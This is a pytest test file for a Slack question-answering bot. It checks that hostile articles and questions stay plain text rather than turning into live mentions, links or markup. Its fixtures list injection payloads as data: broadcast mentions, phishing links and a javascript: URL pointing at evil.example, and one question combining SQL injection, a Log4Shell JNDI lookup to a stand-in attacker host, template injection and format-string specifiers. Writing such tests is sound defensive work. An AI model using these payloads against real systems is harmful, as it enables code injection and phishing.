"""What comes from articles or people is data: nothing of it comes alive in Slack."""

from __future__ import annotations

import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from seed_answers import ANSWERS, QUESTION
from slack_emulator.scene import Scene

from qa_bot import QABot, load_settings

HOSTILE = {
    "alert.txt": "---\ntitle: <!channel> *urgent* & <https://evil.example/|your bank>\nurl: javascript:alert(1)\n"
    "publisher: <@U0QABOT01> & sons\n---\nThe password of Blorbington is <!everyone> & <https://evil.example/|click>. "
    "Ask <@U0QABOT01> or `code` *bold* ~gone~ about Blorbington at https://evil.example/login today.",
    "link.txt": "---\ntitle: https://evil.example/title\nurl: https://example.org/qa-bot-seeds/x|<!here>\n---\n"
    "The captain of the ship Zarquon is Ann <Reed> & Co. The ship Zarquon carries [tea](https://evil.example/tea).",
    "bank.txt": "---\ntitle: https://bank.example/login\nurl: https://example.org/qa-bot-seeds/trap\n---\n"
    "The keeper of the bridge Xanadine is Olaf <!here> Brandt. Anna Reed wrote the <!channel> message of Xanadine in 1931.",
    "family.txt": "---\ntitle: " + "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 80 + "\n---\n"
    "The mascot of Quuxville is " + "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 900 + " Fred.",
    "long.txt": "---\ntitle: " + "Very " * 200 + "long\nurl: https://example.org/qa-bot-seeds/" + "x" * 4000 + "\n---\n"
    "The mayor of Fnordburg is called " + "Wilhelmina " * 800 + "Smith.",
}  # fmt: skip
QUESTIONS = (
    "What is the password of Blorbington?",
    "Who is the captain of the ship Zarquon?",
    "What is the mascot of Quuxville?",
    "Who is the mayor of Fnordburg?",
    "Who is the keeper of the bridge Xanadine?",
)


@pytest.fixture(scope="module")
def scene(
    make_scene: Callable[..., Scene], indexed_seeds: Path, tmp_path_factory: pytest.TempPathFactory, cache_dir: Path
) -> Scene:
    """A scene whose archive also holds articles that mean harm."""
    folder = tmp_path_factory.mktemp("hostile")
    shutil.copytree(indexed_seeds, folder / "data")
    (folder / "articles").mkdir()
    for name, text in HOSTILE.items():
        (folder / "articles" / name).write_text(text)
    with QABot(load_settings(data_dir=folder / "data", cache_dir=cache_dir)) as bot:
        bot.reindex([str(folder / "articles")])
    scene = make_scene(lambda scene: f'threshold = 0.0\n[slack]\nadmins = ["{scene.alice.id}"]\n', folder / "data")
    scene.app.start()
    return scene


@pytest.mark.parametrize("question", QUESTIONS)
def test_an_article_stays_text_wherever_it_is_shown(scene: Scene, room: str, question: str) -> None:
    answer = scene.answer(scene.alice.asks(question, in_=room))
    assert scene.quotes(answer)
    for label in scene.labels(answer):
        scene.click(scene.bob, label, on=answer)
    scene.alice.types("/ask", question, in_=room).message()
    scene.bob.opens_bot("home")
    scene.bob.opens_bot("messages")
    step = scene.bob.runs_step("answer_question", question=question)
    outputs = scene.wait_for("the step's end", lambda: scene.workspace.steps[step])
    assert not re.search(r"<[!@#]|<https?:", str(outputs)), "a workflow may post it as it is"
    scene.settle()
    assert not re.search(r"[<>]", str(scene.workspace.prompts)), "a prompt is posted as the person typed it"


@pytest.mark.parametrize(
    "question",
    [
        "Who is <!channel> &amp; <@U0SOMEBODY>?",
        "Where is <https://evil.example/|my bank>?",
        "What is &lt;!here&gt; and &lt;@U0QABOT01&gt;?",
        "*What* _is_ ~this~ `code` &amp;amp; ```more```?",
        "Was ist \u202egnp.exe und \u0000\u0007 das?",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 500 + " who?",
        "Who launched Voyager 2?\n" * 40,
        "'; DROP TABLE articles; -- ${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}?",
        "." * 3000 + "?",
    ],
)
def test_a_question_stays_text_wherever_it_is_repeated(scene: Scene, room: str, question: str) -> None:
    scene.workspace.allowed_mentions.add(scene.alice.id)  # a shared answer says who asked
    scene.answer(scene.alice.asks(question, in_=room))
    shown = scene.alice.types("/ask", question, in_=room).message()
    for label in scene.labels(shown):
        scene.click(scene.alice, label, on=shown)
    scene.alice.opens_bot("home")
    scene.alice.types("/ask-admin", question, in_=room)
    scene.settle()
    assert ANSWERS[QUESTION] in scene.bold(scene.answer(scene.bob.asks(QUESTION, in_=room)))
